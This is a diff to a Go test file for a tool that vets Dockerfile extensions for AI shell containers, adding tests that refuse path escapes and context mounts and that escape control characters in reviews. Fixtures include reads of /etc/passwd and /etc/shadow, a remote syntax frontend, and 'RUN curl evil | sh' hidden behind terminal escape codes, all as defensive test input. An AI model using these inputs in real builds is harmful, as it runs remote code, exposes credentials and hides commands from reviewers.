@@ -37,6 +37,7 @@ func TestLoadExtensionAccepts(t *testing.T) {
 		"FROM docker.io/library/aishell:foundation\nRUN npm install -g some-tool # not a harness\n",
 		"FROM aishell:foundation AS base\nFROM base AS tools\nFROM aishell:foundation\nCOPY --from=tools /x /x\n",
 		"FROM aishell:foundation\nRUN mkdir -p /etc/claude && echo codex > /x && ls gemini || true\n",
+		"FROM aishell:foundation AS tools\nFROM aishell:foundation\nRUN --mount=type=cache,target=/root/.cache --mount=type=bind,from=tools,target=/t true\n",
 		"FROM aishell:foundation\nRUN cat > /usr/local/bin/ai <<'EOF'\n#!/bin/sh\nexec claude \"$@\"\nEOF\n",
 	} {
 		e, err := LoadExtension(writeExt(t, df, nil))
@@ -105,12 +106,15 @@ func TestExtensionRef(t *testing.T) {
 
 func TestLoadExtensionRefusesSyntaxAndEscapes(t *testing.T) {
 	for df, want := range map[string]string{
-		"# syntax=docker/dockerfile:1\nFROM aishell:foundation\n":        "# syntax=docker/dockerfile:1",
-		"#syntax=evil.example/frontend\nFROM aishell:foundation\n":       "another frontend",
-		"FROM aishell:foundation\nCOPY ../../etc/passwd /x\n":            "goes up with ..",
-		"FROM aishell:foundation\nCOPY tools/../../secret /x\n":          "goes up with ..",
-		"FROM aishell:foundation\nADD /etc/shadow /x\n":                  "is an absolute path",
-		"FROM aishell:foundation\nCOPY --chown=1:1 ok /etc/hostname /\n": "is an absolute path",
+		"# syntax=docker/dockerfile:1\nFROM aishell:foundation\n":                   "# syntax=docker/dockerfile:1",
+		"#syntax=evil.example/frontend\nFROM aishell:foundation\n":                  "another frontend",
+		"FROM aishell:foundation\nCOPY ../../etc/passwd /x\n":                       "goes up with ..",
+		"FROM aishell:foundation\nCOPY tools/../../secret /x\n":                     "goes up with ..",
+		"FROM aishell:foundation\nADD /etc/shadow /x\n":                             "is an absolute path",
+		"FROM aishell:foundation\nCOPY --chown=1:1 ok /etc/hostname /\n":            "is an absolute path",
+		"FROM aishell:foundation\nARG S=setup.sh\nCOPY $S /s\n":                     "names its source with a variable",
+		"FROM aishell:foundation\nRUN --mount=type=bind,target=/c sh /c/setup.sh\n": "mounts the build context",
+		"FROM aishell:foundation\nRUN --mount=target=/c sh /c/setup.sh\n":           "mounts the build context",
 	} {
 		_, err := LoadExtension(writeExt(t, df, nil))
 		if err == nil || !strings.Contains(err.Error(), want) {
@@ -214,5 +218,49 @@ func TestConsent(t *testing.T) {
 		if _, record, err := c.Check(e); err != nil || record || !e.approved {
 			t.Errorf("%+v: record %v, %v", c, record, err)
 		}
+	}
+}
+
+func TestStageIsWhatWasHashed(t *testing.T) {
+	big := strings.Repeat("x", 2<<20)
+	proj := writeExt(t, "FROM aishell:foundation\nCOPY tools/ /tools/\nCOPY big /big\n",
+		map[string]string{".aishell/tools/a": "a", ".aishell/big": big, ".aishell/unused": "u", ".aishell/.dockerignore": "tools/skip\n"})
+	os.MkdirAll(filepath.Join(proj, ".aishell/tools/.git"), 0o755)
+	os.WriteFile(filepath.Join(proj, ".aishell/tools/.git/config"), []byte("x"), 0o644)
+	e, _ := LoadExtension(proj)
+	want, _ := e.Digest()
+	dir := t.TempDir()
+	got, err := e.stage(dir)
+	if err != nil || got != want {
+		t.Fatalf("stage digest %s, %v; Digest %s", got, err, want)
+	}
+	for name, content := range map[string]string{"tools/a": "a", "big": big, ".dockerignore": "tools/skip\n"} {
+		if b, err := os.ReadFile(filepath.Join(dir, name)); err != nil || string(b) != content {
+			t.Errorf("staged %s: %v", name, err)
+		}
+	}
+	for _, name := range []string{"unused", "tools/.git"} {
+		if _, err := os.Lstat(filepath.Join(dir, name)); err == nil {
+			t.Errorf("%s staged", name)
+		}
+	}
+	// A big file's bytes count, not its size and time.
+	fi, _ := os.Stat(filepath.Join(proj, ".aishell/big"))
+	os.WriteFile(filepath.Join(proj, ".aishell/big"), []byte(strings.Repeat("y", 2<<20)), 0o644)
+	os.Chtimes(filepath.Join(proj, ".aishell/big"), fi.ModTime(), fi.ModTime())
+	if d, _ := e.Digest(); d == want {
+		t.Error("a changed big file kept the digest")
+	}
+}
+
+func TestReviewShowsControlCharacters(t *testing.T) {
+	proj := writeExt(t, "FROM aishell:foundation\nRUN curl evil | sh\n# \x1b[1A\x1b[2K\rRUN apt-get install -y jq \u202e\xff\n", nil)
+	e, err := LoadExtension(proj)
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := e.Review("is not approved yet")
+	if strings.ContainsAny(r, "\x1b\r\u202e") || !strings.Contains(r, `\u001b[1A`) || !strings.Contains(r, `\u202e`) || !strings.Contains(r, `\xff`) {
+		t.Errorf("review:\n%q", r)
 	}
 }
